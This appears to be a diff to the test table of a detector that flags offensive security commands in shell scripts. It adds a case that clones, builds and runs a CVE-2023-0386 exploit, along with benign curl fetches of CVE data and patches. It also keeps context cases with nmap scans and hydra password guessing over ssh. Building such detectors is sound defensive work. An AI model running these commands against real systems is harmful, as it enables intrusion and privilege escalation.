@@ -5,6 +5,9 @@ import { commandOffensiveTool, OFFENSIVE_PROGRAMS } from './offensive-tool.ts';
 
 indicatorTable(commandOffensiveTool, {
   fires: {
+    'an exploit by the number of its weakness': script(
+      'git clone https://github.com/x/CVE-2023-0386 /e && make -C /e && /e/exp',
+    ),
     'a scanner': runs('nmap', '-p', '10250', '192.0.2.0/24'),
     'a scanner behind xargs': script('ip -o addr | xargs -n 1 nmap'),
     'a guesser of passwords': runs('hydra', '-L', 'users.txt', '-P', 'words.txt', 'ssh://192.0.2.7'),
@@ -22,6 +25,8 @@ indicatorTable(commandOffensiveTool, {
     'a backup tool of the same name': runs('medusa', '--config-file=/etc/medusa.ini', 'backup', '--backup-name=b1'),
     'a value that nobody has seen, behind an option': runs('hydra', 'janitor', '--tokens', '--limit', '$(LIMIT)'),
     'a shop of the same name': runs('medusa', 'db:migrate'),
+    'what is known of a weakness': script('curl -s https://feeds.example.com/cve/CVE-2024-21626.json | jq .'),
+    'a change against a weakness': script('curl -sO https://example.com/fixes/CVE-2024-21626-runc.patch'),
     'a tool as the name of a file': script('cat /data/nmap'),
     'an ordinary installation': script('apk add curl jq'),
     'no command set': blank,
